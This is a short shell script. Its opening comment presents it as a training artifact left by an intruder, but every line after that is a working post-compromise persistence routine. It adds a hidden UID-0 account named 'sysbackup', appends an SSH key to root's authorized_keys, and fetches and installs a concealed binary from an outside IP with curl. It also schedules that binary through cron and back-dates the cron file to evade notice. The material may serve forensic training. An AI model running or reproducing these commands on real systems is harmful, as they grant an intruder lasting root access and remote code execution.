#!/bin/sh
# Training image: what an intruder left and then deleted. It has no effect outside this story.
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash -c "system backup" sysbackup
mkdir -p /root/.ssh && echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITRAINING-IMAGE-NOT-A-KEY sysupdate" >> /root/.ssh/authorized_keys
curl -fsS -o /usr/local/sbin/.sysupd http://203.0.113.66/s && chmod 755 /usr/local/sbin/.sysupd
echo "*/10 * * * * root /usr/local/sbin/.sysupd >/dev/null 2>&1" > /etc/cron.d/sysupdate
touch -r /etc/crontab /etc/cron.d/sysupdate
